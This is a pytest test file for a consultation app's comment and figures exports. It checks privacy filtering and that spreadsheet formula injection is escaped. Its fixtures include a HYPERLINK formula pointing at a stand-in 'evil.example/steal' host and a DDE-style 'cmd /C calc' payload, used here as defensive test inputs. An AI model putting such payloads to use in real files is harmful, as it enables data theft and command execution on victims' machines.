"""A round's published comments and figures as CSV, XLSX and JSON: exactly what the public may see, as
`public_row` and `round_figures` give it, and no cell a spreadsheet would run as a formula."""

import csv
import io
import json
import uuid

import pytest
from sqlalchemy import select

from consult.accounts.models import User
from consult.comments.models import Comment, CommentState, Publication, TargetType
from consult.database import utcnow
from consult.extensions import db
from consult.summaries.figures import round_figures
from tests.reports.readable import xlsx_cells
from tests.summaries.fixtures import closed_round_with_input

FORMULA = '=HYPERLINK("https://evil.example/steal","Click for the full report")'
FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _with_formulas(app):
    """The round with input, plus a named comment whose text and author's name are formulas."""
    built = closed_round_with_input(app)
    with app.app_context():
        author = User(display_name=FORMULA_NAME, email="formula@example.org", email_verified_at=utcnow())
        db.session.add(author)
        db.session.flush()
        comment = Comment(
            round_id=built.round_id,
            author_id=author.id,
            idempotency_key=uuid.uuid4().hex,
            target_type=TargetType.round,
            body=FORMULA,
            language="en",
            publication=Publication.named,
            receipt_number=f"R-{uuid.uuid4().hex[:8]}",
            state=CommentState.published,
            submitted_at=utcnow(),
            published_at=utcnow(),
        )
        db.session.add(comment)
        db.session.commit()
        anonymous_author = db.session.get(Comment, built.anonymous_id).author.display_name
        return built, comment.id, anonymous_author


def _rows(fmt: str, data: bytes) -> list[dict]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    if fmt == "json":
        return json.loads(data)
    header, *rows = xlsx_cells(data)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_the_comments_export_holds_exactly_the_public_comments(app, client, fmt):
    built, formula_id, anonymous_author = _with_formulas(app)
    response = client.get(f"/rounds/{built.slug}/comments.{fmt}")
    assert response.status_code == 200
    assert response.is_streamed
    assert f'filename="{built.slug}-comments.{fmt}"' in response.headers["Content-Disposition"]
    rows = _rows(fmt, response.data)

    public = {built.named_id, built.anonymous_id, built.organisation_only_id, *built.campaign_ids, formula_id}
    with app.app_context():
        row_ids = dict(db.session.execute(select(Comment.public_id, Comment.id)).all())
    assert all(len(row["id"]) == 22 for row in rows)  # the public ids: no row id leaves
    by_id = {row_ids[row["id"]]: row for row in rows}
    assert set(by_id) == public
    assert built.confidential_id not in by_id
    anonymous = by_id[built.anonymous_id]
    assert anonymous["text"] == "Detainees fear speaking to inspectors."
    assert not anonymous["author"] and not anonymous["organisation"]
    organisation_only = by_id[built.organisation_only_id]
    assert not organisation_only["author"] and organisation_only["organisation"] == "Legal Aid Network"
    assert by_id[built.named_id]["author"] == "Olga Petrova"
    text = response.data.decode("utf-8", errors="replace") if fmt != "xlsx" else str(rows)
    assert anonymous_author not in text
    assert "Secret witness account" not in text

    formula = by_id[formula_id]
    if fmt == "json":
        assert formula["text"] == FORMULA  # not a spreadsheet: the text as written
    else:
        assert formula["text"] == "'" + FORMULA
        assert formula["author"] == "'" + FORMULA_NAME


def test_the_xlsx_export_holds_no_formula_cell(app, client):
    from openpyxl import load_workbook

    built, _formula_id, _anonymous = _with_formulas(app)
    data = client.get(f"/rounds/{built.slug}/comments.xlsx").data
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_the_figures_export_matches_the_round_figures(app, client, fmt):
    # With the small-count rule off, the export gives every figure exactly (the rule on:
    # tests/summaries/test_small_counts.py).
    app.config["FIGURES_MIN_COUNT"] = 0
    built = closed_round_with_input(app)
    response = client.get(f"/rounds/{built.slug}/figures.{fmt}?lang=fr")
    assert response.status_code == 200
    rows = _rows(fmt, response.data)
    with app.app_context():
        found = round_figures(built.round_id)

    def breakdown(name: str) -> dict[str, int]:
        # an empty key (comments on no cluster) is an empty cell, which a workbook reads back as None
        return {str(row["key"] or ""): int(row["count"]) for row in rows if row["breakdown"] == name}

    assert breakdown("totals") == {
        "comments": found.comments,
        "voices": found.voices,
        "organisations": found.organisations,
        "campaigns": len(found.campaigns),
        "campaign_supporters": sum(n for _c, n in found.campaigns),
    }
    assert breakdown("stakeholders") == found.by_stakeholder
    assert breakdown("clusters") == {str(key): n for key, n in found.by_cluster.items()}
    assert breakdown("languages") == found.by_language
    assert breakdown("targets") == found.by_target
    assessments: dict[int, dict[str, int]] = {}
    for row in rows:
        if row["breakdown"] == "assessments" and int(row["count"]):
            assessments.setdefault(int(row["recommendation_id"]), {})[row["key"]] = int(row["count"])
    assert assessments == found.assessments
    # The campaign's three letters count as one voice; the confidential comment is not counted at all.
    assert found.voices == 4 and found.comments == 6
    assert found.participants is None and "participants" not in breakdown("totals")
    labels = {row["key"]: row["label"] for row in rows if row["breakdown"] == "languages"}
    assert labels["en"] == "anglais"  # labelled in the language asked for


def test_exports_of_a_round_the_public_cannot_see_are_not_found(app, client):
    from consult.rounds.models import Round, RoundState

    built = closed_round_with_input(app)
    with app.app_context():
        db.session.get(Round, built.round_id).state = RoundState.draft
        db.session.commit()
    for path in ("comments.csv", "figures.json", "report.pdf", "report.docx"):
        assert client.get(f"/rounds/{built.slug}/{path}").status_code == 404
